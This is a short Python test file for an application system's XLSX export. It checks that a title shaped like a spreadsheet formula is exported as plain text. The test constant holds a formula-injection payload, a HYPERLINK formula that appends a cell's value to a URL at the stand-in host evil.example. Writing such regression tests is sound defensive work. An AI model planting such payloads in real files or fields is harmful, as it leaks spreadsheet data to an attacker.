import io

from openpyxl import load_workbook

from fou.applications.models import Status
from tests import factories

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Klicka här")'


def test_a_title_that_looks_like_a_formula_is_exported_as_text(as_officer, lum_call, farsta):
    factories.application(
        lum_call, farsta, status=Status.SUBMITTED, title=FORMULA, amount_asked=400_000
    )
    response = as_officer.get("/ansokningar/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    title, amount = sheet["E2"], sheet["F2"]
    assert (title.value, title.data_type) == (FORMULA, "s")
    assert (amount.value, amount.data_type) == (400_000, "n")
